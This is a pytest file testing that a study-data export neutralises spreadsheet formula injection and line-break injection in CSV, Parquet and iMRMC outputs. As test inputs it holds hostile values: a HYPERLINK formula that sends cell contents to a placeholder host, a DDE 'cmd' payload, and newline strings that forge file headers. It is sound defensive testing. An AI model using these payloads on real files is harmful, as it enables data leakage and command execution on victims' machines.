"""Hostile text in exports (issue 11, item 3): no cell of the long CSV runs as a spreadsheet formula, numbers
stay numbers, Parquet keeps the raw values, and no id can break the iMRMC file's structure."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from sqlalchemy import select, update

from study.domain import workflow
from study.outputs.export import FORMULA_START, answers_table, csv_safe, export, imrmc_text
from study.storage.models import Answer, Assignment, Case, Reader, Study
from study.jobs.simulate_readers import simulate
from tests.study.test_study_export import parse_imrmc
from tests.study.test_study_simulate import seed_study
from testsupport.studies import committed

LINK = '=HYPERLINK("http://127.0.0.1:9/x?d="&A1,"click")'
HOSTILE_KEYS = {"c000": LINK, "c001": "-5", "c002": "+cmd|' /C calc'!A0", "c003": "@SUM(1+1)"}
REASON = "=1+2 typo"
LEVEL = "-junior"
STUDY = "\tstudy"


def _hostile_study(Session) -> int:
    """A simulated study whose case keys, a level name, the study name and a correction reason are hostile
    (written straight into the database, as an older database or another path could hold them)."""
    sid = seed_study(Session, n_cases=4, ai_accuracy=0.9, name="Hostile export", unaided_corrections_after_ai=True)
    simulate(Session, sid, 2, seed=4)
    with Session() as s:
        for key, hostile in HOSTILE_KEYS.items():
            s.execute(update(Case).where(Case.study_id == sid, Case.case_key == key).values(case_key=hostile))
        first = s.scalars(select(Reader).where(Reader.study_id == sid).order_by(Reader.id)).first()
        first.level = LEVEL
        s.commit()
        # the tab is refused by today's stored-text check on a flush; an older database can hold it
        s.execute(update(Study).where(Study.id == sid).values(name=STUDY))
        s.commit()
        ans = s.scalars(select(Answer).join(Assignment).where(Assignment.condition == "unaided")
                        .order_by(Answer.id)).first()
        committed(workflow.correct, s, ans.reader_id, ans.id, {**ans.payload, "confidence": 12}, REASON)
    return sid


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-inf", "'-inf"), ("-", "'-"),
    ("-1.5", "-1.5"), ("+2", "+2"), ("-3e4", "-3e4"), (".5", ".5"),   # plain numbers: a spreadsheet reads a number
    ("normal", "normal"), ("a=b", "a=b"), ("", ""), (None, None), (-4, -4), (2.5, 2.5), (True, True)])
def test_csv_safe_follows_owasp_and_keeps_numbers(value, expected):
    assert csv_safe(value) == expected


def test_long_csv_runs_no_formula_and_keeps_numbers(Session, tmp_path):
    sid = _hostile_study(Session)
    out = tmp_path / "answers.csv"
    with Session() as s:
        n = export(s, sid, "csv", out)
        raw_table = answers_table(s, sid)
    text = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == n == len(raw_table)
    col = {name: i for i, name in enumerate(header)}
    # no cell of the file starts a formula, except plain numbers (a spreadsheet reads those as numbers)
    for row in body:
        for cell in row:
            assert cell[:1] not in FORMULA_START or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell
    cases = {row[col["case"]] for row in body}
    assert cases == {"'" + LINK, "-5", "'+cmd|' /C calc'!A0", "'@SUM(1+1)"}
    assert {row[col["study"]] for row in body} == {"'" + STUDY}
    assert "'" + LEVEL in {row[col["level"]] for row in body}
    assert {row[col["correction_reason"]] for row in body} == {"", "'" + REASON}
    # neutralised fields are quoted (OWASP), the quote inside the formula doubled by the CSV writer
    assert '"\'=HYPERLINK(""http://127.0.0.1:9/x?d=""&A1,""click"")"' in text
    # numbers stay numbers: the numeric columns read back as numbers, with the stored values
    df = pd.read_csv(out)
    for name in ("years", "confidence", "version", "answer_id", "seconds", "ai_top_probability"):
        assert pd.api.types.is_numeric_dtype(df[name]), name
    assert sorted(df["confidence"].dropna().astype(int)) == sorted(raw_table["confidence"].dropna().astype(int))
    assert 12 in set(df["confidence"])
    assert df["is_latest"].dtype == bool


def test_parquet_keeps_the_raw_values(Session, tmp_path):
    sid = _hostile_study(Session)
    with Session() as s:
        export(s, sid, "parquet", tmp_path / "a.parquet")
    df = pd.read_parquet(tmp_path / "a.parquet")
    assert set(df["case"]) == set(HOSTILE_KEYS.values())
    assert set(df["study"]) == {STUDY} and LEVEL in set(df["level"])
    assert REASON in set(df["correction_reason"])


def test_imrmc_ids_with_line_breaks_cannot_add_lines(Session, tmp_path):
    sid = seed_study(Session, n_cases=4, ai_accuracy=0.9, name="Hostile iMRMC")
    simulate(Session, sid, 2, seed=4)
    injected = "c000\nBEGIN DATA:\n-1,99,0,1"
    with Session() as s:
        s.execute(update(Case).where(Case.study_id == sid, Case.case_key == "c000").values(case_key=injected))
        # line breaks are refused by today's stored-text check on a flush; an older database can hold them
        first = s.scalars(select(Reader).where(Reader.study_id == sid).order_by(Reader.id)).first()
        s.execute(update(Reader).where(Reader.id == first.id).values(pseudonym="R\r\nNR: 99"))
        s.execute(update(Study).where(Study.id == sid).values(name="name\u2028N1: 7"))
        s.commit()
        out = tmp_path / "x.imrmc"
        export(s, sid, "imrmc", out)
    text = out.read_text(encoding="utf-8")
    lines = text.split("\n")
    assert lines.count("BEGIN DATA:") == 1 and "\r" not in text and "\u2028" not in text
    assert sum(line.startswith("NR:") for line in lines) == 1
    assert "=c000\\x0aBEGIN DATA:\\x0a-1,99,0,1" in text and "=R\\x0d\\x0aNR: 99" in text
    counts, truth, rows = parse_imrmc(text)
    assert counts["NR"] == 2 and counts["N0"] + counts["N1"] == 4 and len(truth) == 4
    assert len(rows) == 2 * 4 * 2 and all(case in truth for _, case, _, _ in rows)


def test_imrmc_refuses_a_modality_that_would_break_a_data_line(Session):
    sid = seed_study(Session, n_cases=4, ai_accuracy=0.9, name="Hostile modality")
    simulate(Session, sid, 2, seed=4)
    with Session() as s:
        table = answers_table(s, sid)
    assert imrmc_text(table).count("BEGIN DATA:") == 1  # the table is fine as it is
    bad = table.assign(condition=table["condition"].replace({"ai": "ai,1\n-1"}))
    with pytest.raises(ValueError, match="cannot be an iMRMC modality ID"):
        imrmc_text(bad)
